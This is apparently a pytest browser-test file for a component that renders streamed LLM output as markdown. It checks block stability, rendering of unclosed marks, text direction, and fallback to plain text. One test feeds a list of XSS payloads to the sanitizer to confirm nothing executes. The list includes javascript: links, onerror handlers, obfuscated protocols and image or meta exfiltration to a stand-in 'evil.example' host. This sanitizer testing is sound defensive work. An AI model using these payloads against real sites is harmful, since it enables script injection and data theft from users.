"""``<llm-stream markdown>``: settled blocks stay, unclosed marks look right, nothing of a model's runs."""

from __future__ import annotations

from typing import Any, Iterator, List

import pytest
from element_page import APP, ElementPage, opened

from flask_llmstream.testing import LiveServer, gunicorn_server, wait_until

pytestmark = [pytest.mark.live, pytest.mark.browser]

MARKDOWN = "<llm-stream markdown></llm-stream>"


@pytest.fixture(scope="module")
def server() -> Iterator[LiveServer]:
    with gunicorn_server(APP, env={"UPSTREAM": "http://127.0.0.1:9"}) as server:
        yield server


@pytest.fixture
def page(browser: Any, server: LiveServer) -> Iterator[ElementPage]:
    yield from opened(browser, server.url)


def ready(page: ElementPage) -> ElementPage:
    page.open(MARKDOWN)
    page.wait_for("!it.querySelector('.llm-text').hasAttribute('data-plain')", "the module to be loaded")
    return page


ANSWER = """# Title

First *paragraph* with a [link](https://example.org/a).

- one
- two **bold**
  1. inner

> quoted

```python
print("<b>")
```

| a | b |
|---|--:|
| 1 | `x` |

See [the page][ref] and ~~this~~.

[ref]: https://example.org/ref "Title"

Last.\r
Line\r\n\r\nEnd
"""


def test_blocks_settle_and_the_end_result_is_that_of_the_whole(page: ElementPage, npm_packages: Any) -> None:
    ready(page)
    page.run(
        "window.seen = []; window.replaced = 0; window.late = 0;"
        "for (const piece of arguments[0].match(/[^]{1,3}/g)) {"
        "  it.push({ type: 'text', text: piece }); it.flush();"
        "  const blocks = [...it.querySelectorAll('.llm-block')];"
        "  blocks.slice(0, -2).forEach((block, index) => {"
        "    const nodes = [...block.querySelectorAll('*')];"
        "    if (!seen[index]) { seen[index] = { block, nodes }; return; }"
        "    if (seen[index].block !== block) replaced++;"
        "    if (index < blocks.length - 2 && nodes.some((node, n) => node !== seen[index].nodes[n])) late++;"
        "  });"
        "}",
        ANSWER,
    )
    assert page.run("return [seen.length, replaced, late]") == [7, 0, 0]
    assert page.cursor("content") == '""' and page.cursor("animationName") == "llm-blink"
    page.run("it.push({ type: 'done', reason: 'stop', usage: null })")
    assert page.cursor("content") == "none"
    # It is read out as it is read.
    assert page.said.startswith("Title\n") and "See the page and this." in page.said and "*" not in page.said
    streamed = page.run("return [...it.querySelectorAll('.llm-block')].map(each => each.innerHTML).join('')")
    page.run("it.push({ type: 'text', text: arguments[0] }); it.push({ type: 'done' })", ANSWER)
    whole = page.run("return [...it.querySelectorAll('.llm-block')].map(each => each.innerHTML).join('')")
    assert streamed == whole
    for part in (
        "<h1>Title</h1>", "<em>paragraph</em>", "<strong>bold</strong>", "<ol>", "<blockquote>",
        '<td align="right">',
        'class="language-python"', "&lt;b&gt;", 'href="https://example.org/ref"', "<del>this</del>",
        'rel="noopener noreferrer nofollow"', 'target="_blank"',
    ):
        assert part in whole, whole
    assert page.violations(npm_packages) == []


#: What was written so far, and what is shown of it.
UNCLOSED = [
    ("a **bol", "<p>a <strong>bol</strong></p>"),
    ("a **bold*", "<p>a <strong>bold</strong></p>"),
    ("a **", "<p>a</p>"),
    ("a *b **c `d", "<p>a <em>b <strong>c <code>d</code></strong></em></p>"),
    ("see [the fi", "<p>see the fi</p>"),
    ("see [the text](https://exa", "<p>see the text</p>"),
    ("see ![alt](https://exa", "<p>see alt</p>"),
    ("```js\nlet a", '<pre tabindex="0"><code class="language-js">let a\n</code></pre>'),
    ("Text\n--", "<p>Text</p>"),
    ("| a | b", "<table><thead><tr><th>a</th><th>b</th></tr></thead></table>"),
    ("| a | b |\n|-", "<table><thead><tr><th>a</th><th>b</th></tr></thead></table>"),
    ("- one\n- **tw", "<ul><li>one</li><li><strong>tw</strong></li></ul>"),
    ("2 * 3 and a_b", "<p>2 * 3 and a_b</p>"),
    ("`a` and ``b", "<p><code>a</code> and <code>b</code></p>"),
]


def test_what_is_unclosed_is_shown_as_what_it_will_be(page: ElementPage) -> None:
    ready(page)
    shown = page.run(
        "return arguments[0].map(([text]) => {"
        "  it.reset(); it.push({ type: 'text', text }); it.flush();"
        "  const copy = it.querySelector('.llm-block').cloneNode(true);"
        "  for (const each of [copy, ...copy.querySelectorAll('.llm-cursor')]) {"
        "    each.classList.remove('llm-cursor'); if (!each.className) each.removeAttribute('class'); }"
        "  return [text, copy.innerHTML.replaceAll('>\\n', '>').trim()]; })",
        UNCLOSED,
    )
    assert [tuple(each) for each in shown] == UNCLOSED
    assert page.run("return it.querySelector('.llm-cursor').closest('code') !== null")


#: Text behind which more is written, and what its reader does in it meanwhile.
KEPT = """
const grow = (text) => { it.push({ type: 'text', text }); it.flush(); };
grow('See [the link](/x) and\\n\\n- **one** and\\n\\n```py\\nlet ' + 'x'.repeat(400));
const [link, bold, pre] = ['a', 'strong', 'pre'].map((name) => it.querySelector(name));
pre.focus();
pre.scrollLeft = 200;
grow('\\nmore\\n');
const code = [document.activeElement === pre, pre.scrollLeft, pre.textContent.length];
it.reset();
grow('See [the link](/x) and **two** wor');
const [first, second] = ['a', 'strong'].map((name) => it.querySelector(name));
getSelection().selectAllChildren(second);
grow('ds [more](/y)');
return [...code, String(getSelection()), first === it.querySelector('a'), it.querySelector('p').innerHTML];
"""


def test_what_is_written_behind_it_leaves_a_focus_a_selection_and_a_link_alone(page: ElementPage) -> None:
    ready(page)
    focused, place, length, selected, same, html = page.run(KEPT)
    assert (focused, place, length) == (True, 200, len("let \nmore\n") + 400)
    assert selected == "two" and same is True
    link = '<a href="{}" rel="noopener noreferrer nofollow" target="_blank">{}</a>'
    first, second = link.format("/x", "the link"), link.format("/y", "more")
    assert html == f"See {first} and <strong>two</strong> words {second}"


HEBREW = "\u05e9\u05dc\u05d5\u05dd"
BOTH_WAYS = f"""{HEBREW}!

- {HEBREW}.
- two.

> {HEBREW}

```
let a
```

| {HEBREW} | Quantity | Description | Responsible person | 2026-11-23 |
|---|---|---|---|---|
| 1 | 2 | 3 | 4 | 5 |

Last.
"""


def test_each_block_has_its_direction_and_its_width(page: ElementPage, npm_packages: Any) -> None:
    ready(page)
    page.run("document.body.style.width = '300px'; it.push({ type: 'text', text: arguments[0] });"
             "it.push({ type: 'done' })", BOTH_WAYS)
    # Where the text of each begins, and on which side a list has its markers.
    sides = page.run(
        "return ['p', 'li', 'li + li', 'blockquote > p', 'code', '.llm-block:last-child > p'].map((name) => {"
        "  const all = document.createRange(), each = it.querySelector(name); all.selectNodeContents(each);"
        "  const box = all.getClientRects()[0], frame = it.getBoundingClientRect();"
        "  return frame.right - box.right < box.left - frame.left ? 'right' : 'left'; })"
    )
    assert sides == ["right", "right", "right", "right", "left", "left"]
    assert page.run("return getComputedStyle(it.querySelector('ul')).direction") == "rtl"
    # Words stay whole; what is too wide scrolls for itself, by keyboard, too.
    scrolls, page_scrolls, lines = page.run(
        "const wide = it.querySelector('.llm-wide'), cell = wide.querySelector('th:last-child');"
        "wide.focus(); const words = document.createRange(); words.selectNodeContents(cell);"
        "return [document.activeElement === wide && wide.scrollWidth > wide.clientWidth,"
        "  document.body.scrollWidth > 300, words.getClientRects().length]"
    )
    assert (scrolls, page_scrolls) == (True, False) and lines <= 3
    assert page.violations(npm_packages) == []


SCRIPT = "window.owned=1"
PROBES = [
    f"<script>{SCRIPT}</script>", f"<img src=x onerror={SCRIPT}>",
    f"text <img src=x onerror='{SCRIPT}'> text",
    f"<svg onload={SCRIPT}><a xlink:href=\"javascript:{SCRIPT}\"><text>x</text></a></svg>",
    f"<iframe srcdoc=\"<script>parent.{SCRIPT}</script>\"></iframe>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={SCRIPT}>",
    f"<details open ontoggle={SCRIPT}>x</details>",
    f"<form action=javascript:{SCRIPT}><input type=submit autofocus onfocus={SCRIPT}></form>",
    "<style>body{background:url(/leak)}</style><p style=\"background:url(/leak)\">x</p>",
    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
    f"[a](javascript:{SCRIPT})", f"[a](JaVaScRiPt:{SCRIPT})", f"[a](java\nscript:{SCRIPT})",
    f"[a](&#106;avascript:{SCRIPT})", f"[a](&#x6A;ava&Tab;script:{SCRIPT})", f"[a](\x01javascript:{SCRIPT})",
    f"[a](data:text/html,<script>{SCRIPT}</script>)", f"[a](vbscript:{SCRIPT})",
    f"[a](<javascript:{SCRIPT}>)", f"<javascript:{SCRIPT}>", f"[a][r]\n\n[r]: javascript:{SCRIPT}",
    f"![a](javascript:{SCRIPT})", f"![a](x\"onerror=\"{SCRIPT})", f"![a\" onerror=\"{SCRIPT}](/leak)",
    "![a](https://evil.example/leak?secret)", f"[a](https://x \"onmouseover={SCRIPT}\")",
    f"[a](https://x' onmouseover='{SCRIPT})", f"`<img src=x onerror={SCRIPT}>`",
    f"```\"><img src=x onerror={SCRIPT}>\ncode\n```", f"|a|\n|-|\n|<img src=x onerror={SCRIPT}>|",
    f"- <b onclick={SCRIPT}>x</b>", f"# <a href=javascript:{SCRIPT}>x",
    f"<a href=\"javascript:{SCRIPT}\">x</a>", f"**<img src=x onerror={SCRIPT}>**",
    f"&lt;script>{SCRIPT}&lt;/script>", f"<![CDATA[<script>{SCRIPT}</script>]]>",
    f"<!--><script>{SCRIPT}</script>-->", "<div id=cookie name=body>x</div>",
]

#: Each probe cut after each character, in two pieces and one by one; looks at what stands there each time.
ATTACK = """
const [probes, done] = arguments;
const good = /^(https?:|mailto:|tel:)/;
const names = ["href", "title", "start", "align", "class", "rel", "target", "tabindex", "dir"];
const tags = "A BLOCKQUOTE BR CODE DEL DIV EM H1 H2 H3 H4 H5 H6 HR LI OL P PRE STRONG TABLE TBODY" +
  " TD TH THEAD TR UL";
const allowed = new Set(tags.split(" "));
const found = new Set();
let looked = 0;
const look = (probe) => {
  looked++;
  if (it.querySelector("[data-plain]")) found.add("plain text");
  for (const node of it.querySelectorAll(".llm-text *")) {
    if (!allowed.has(node.tagName)) found.add(node.tagName + " by " + probe);
    for (const { name } of node.attributes) if (!names.includes(name)) found.add(name + " by " + probe);
    if (node.tagName === "A" && node.hasAttribute("href")) {
      if (!good.test(node.protocol)) found.add(node.href + " by " + probe);
      if (!node.rel.includes("noopener")) found.add("rel by " + probe);
    }
  }
};
const end = (probe) => { look(probe); it.push({ type: "done" }); look(probe); };
const add = (text, probe) => { it.push({ type: "text", text }); it.flush(); look(probe); };
for (const probe of probes) {
  for (let cut = 1; cut < probe.length; cut++) {
    it.reset();
    add(probe.slice(0, cut), probe);
    add(probe.slice(cut), probe);
    if (cut % 8 === 0) end(probe);
  }
  it.reset();
  for (const text of probe) add(text, probe);
  end(probe);
}
setTimeout(() => {
  const loaded = performance.getEntriesByType("resource").map((each) => each.name);
  done({ found: [...found], looked, owned: window.owned ?? null,
    loaded: loaded.filter((name) => /leak|evil/.test(name)) });
}, 100);
"""


def test_nothing_of_a_models_runs_however_it_is_cut(page: ElementPage) -> None:
    ready(page)
    page.browser.set_script_timeout(60)
    seen = page.browser.execute_async_script(
        "const it = document.querySelector('llm-stream');" + ATTACK, PROBES
    )
    assert seen["looked"] > 3000
    assert (seen["found"], seen["owned"], seen["loaded"]) == ([], None, [])
    # They were shown, not lost.
    page.run("it.push({ type: 'text', text: '<b>x</b> ![alt](https://example.org/i.png)' }); it.flush()")
    assert page.part("text").text == "<b>x</b> alt"
    assert page.run("return it.querySelector('a').href") == "https://example.org/i.png"


def test_text_stays_plain_where_no_html_is_trusted(browser: Any, server: LiveServer) -> None:
    page = ElementPage(browser, server.url).open(MARKDOWN, types="'none'")
    page.run("it.push({ type: 'text', text: 'a **b**' })")
    page.wait_for("performance.getEntriesByType('resource').some(each => each.name.includes('purify'))")
    # It says so in the console once it has been tried.
    said: List[str] = []
    wait_until(lambda: said.extend(page.log()) or any("TrustedHTML" in each for each in said), 10, "a try")
    page.frames()
    page.run("it.push({ type: 'done' })")
    assert page.text == "a **b**" and page.run("return wrong") == []


def test_text_stays_plain_where_the_module_is_missing(browser: Any, server: LiveServer) -> None:
    browser.execute_cdp_cmd("Network.enable", {})
    browser.execute_cdp_cmd("Network.setBlockedURLs", {"urls": ["*purify.es.mjs*"]})
    browser.execute_cdp_cmd("Network.setCacheDisabled", {"cacheDisabled": True})
    try:
        page = ElementPage(browser, server.url).open(MARKDOWN)
        page.run("it.push({ type: 'text', text: 'a **b**\\nc' })")
        page.wait_for("performance.getEntriesByType('resource').some(each => each.name.includes('purify'))")
        page.frames()
        page.run("it.push({ type: 'text', text: ' d' }); it.push({ type: 'done' })")
        page.frames()
        assert page.text == "a **b**\nc d"
        assert page.run("return getComputedStyle(it.querySelector('.llm-text')).whiteSpace") == "pre-wrap"
    finally:
        browser.execute_cdp_cmd("Network.setBlockedURLs", {"urls": []})
        browser.execute_cdp_cmd("Network.setCacheDisabled", {"cacheDisabled": False})
        browser.execute_cdp_cmd("Network.disable", {})
        browser.get_log("browser")
